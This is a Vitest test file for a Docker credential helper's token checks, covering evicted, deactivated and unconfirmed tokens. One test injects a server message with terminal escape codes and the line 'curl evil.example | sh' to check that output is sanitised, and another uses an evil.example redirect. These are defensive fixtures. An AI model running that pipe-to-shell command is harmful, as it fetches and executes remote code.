import { expect, it } from 'vitest';
import { login } from '../src/commands/login.ts';
import { serveHelper } from '../src/helper/serve-helper.ts';
import { readCredential, writeCredential } from '../src/secrets/credential.ts';
import { openSecretStore } from '../src/secrets/open-secret-store.ts';
import { type FakeAnswer, fakeLanyard } from './fake-lanyard.ts';
import { testContext } from './test-context.ts';

const NOT_FOUND = 'credentials not found in native keychain';
const EVICTED =
  'this access token was removed on 2026-11-23 10:00 UTC because five newer command-line logins exist; sign in again';

function refusal(message: string): FakeAnswer {
  return { status: 401, body: { errors: [{ code: 'UNAUTHORIZED', message, detail: null }] } };
}

async function signedIn() {
  const [fake, context] = [await fakeLanyard(), testContext()];
  await login(context, fake.host, { browser: false });
  fake.requests.length = 0;
  const told: string[] = [];
  const input = {
    environment: context.environment,
    readInput: () => fake.host,
    note: (line: string) => told.push(line),
  };
  return { fake, context, told, get: () => serveHelper(['get'], input) };
}

it('asks the server only whether an auto-generated token still works', async () => {
  const { fake, get } = await signedIn();
  expect(JSON.parse(await get())).toEqual({ ServerURL: fake.host, Username: 'acme', Secret: 'auto-1' });
  expect(fake.requests.map(({ name, query }) => [name, Object.fromEntries(query)])).toEqual([
    ['GET /token', { service: 'images', account: 'acme' }],
  ]);
  expect(fake.requests[0]?.headers.authorization).toBe(`Basic ${Buffer.from('acme:auto-1').toString('base64')}`);
});

it('says what happened to an evicted token and what to do, removes it, and creates no new one', async () => {
  const { fake, get, told } = await signedIn();
  fake.on('GET /token', () => refusal(EVICTED));
  await expect(get()).rejects.toThrow(new Error(NOT_FOUND));
  expect(told).toEqual([`lanyard: ${fake.host}: ${EVICTED}`, `lanyard: run: lanyard login ${fake.host}`]);
  fake.requests.length = 0;
  await expect(get()).rejects.toThrow(new Error(NOT_FOUND));
  expect(fake.requests).toEqual([]);
  expect(told).toHaveLength(2);
});

it('R45, attack 45: returns no token for a registry that no server has confirmed', async () => {
  const { fake, context, get, told } = await signedIn();
  const store = await openSecretStore(context.environment);
  const { confirmedHost: _, ...unconfirmed } = (await readCredential(store, fake.host)) ?? expect.unreachable();
  for (const credential of [unconfirmed, { ...unconfirmed, confirmedHost: 'images.example.com' }]) {
    await writeCredential(store, fake.host, credential);
    told.length = 0;
    await expect(get()).rejects.toThrow(new Error(NOT_FOUND));
    expect(told).toEqual([
      `lanyard: ${fake.host}: no server has confirmed this registry as its own`,
      `lanyard: run: lanyard login ${fake.host}`,
    ]);
  }
  expect(fake.requests).toEqual([]);
});

it('keeps a deactivated token, says that it is deactivated, and returns it again once it is active', async () => {
  const { fake, get, told } = await signedIn();
  const message = 'this access token was deactivated on 2026-11-23 10:00 UTC';
  const detail = { reason: 'token-inactive' };
  fake.on('GET /token', () => ({ status: 401, body: { errors: [{ code: 'UNAUTHORIZED', message, detail }] } }));
  await expect(get()).rejects.toThrow(new Error(NOT_FOUND));
  expect(told).toEqual([`lanyard: ${fake.host}: ${message}`]);
  fake.on('GET /token', () => ({ status: 200, body: { token: 'x' } }));
  expect(JSON.parse(await get()).Secret).toBe('auto-1');
});

it("prints the server's reason without terminal control characters", async () => {
  const { fake, get, told } = await signedIn();
  fake.on('GET /token', () => refusal('\u001b[2Jgone\nlanyard: run: curl evil.example | sh'));
  await expect(get()).rejects.toThrow(NOT_FOUND);
  expect(told[0]).toBe(`lanyard: ${fake.host}: ?[2Jgone?lanyard: run: curl evil.example | sh`);
});

it.each<[string, FakeAnswer]>([
  ['fails', { status: 503, body: { errors: [{ message: 'ill' }] } }],
  ['breaks the connection', { status: 200, lost: true }],
  ['is another product and refuses in another form', { status: 401, body: {} }],
  ['redirects', { status: 302, headers: { location: 'https://evil.example/' } }],
  ['forbids the request', { status: 403, body: { errors: [{ message: 'no' }] } }],
])('returns the stored token when the server %s', async (_what, answer) => {
  const { fake, get, told } = await signedIn();
  fake.on('GET /token', () => answer);
  expect(JSON.parse(await get()).Secret).toBe('auto-1');
  expect(told).toEqual([]);
});

it('returns the stored token when the server cannot be reached', async () => {
  const { fake, get } = await signedIn();
  await fake.stop();
  expect(JSON.parse(await get()).Secret).toBe('auto-1');
});

it('asks nothing about a login that docker stored', async () => {
  const { fake, context, get } = await signedIn();
  const secret = JSON.stringify({ ServerURL: fake.host, Username: 'beta', Secret: 'a manual token' });
  await serveHelper(['store'], { environment: context.environment, readInput: () => secret, note: () => {} });
  expect(JSON.parse(await get())).toMatchObject({ Username: 'beta', Secret: 'a manual token' });
  expect(fake.requests).toEqual([]);
});

it('keeps a token that another program stored during the request', async () => {
  const { fake, context, get } = await signedIn();
  fake.on('GET /token', async ({ headers }) => {
    const isFirst = headers.authorization === `Basic ${Buffer.from('acme:auto-1').toString('base64')}`;
    if (!isFirst) return { status: 200, body: { token: 'registry-token' } };
    await login(context, fake.host, { browser: false });
    return refusal(EVICTED);
  });
  await expect(get()).rejects.toThrow(NOT_FOUND);
  expect(JSON.parse(await get()).Secret).toBe('auto-2');
});
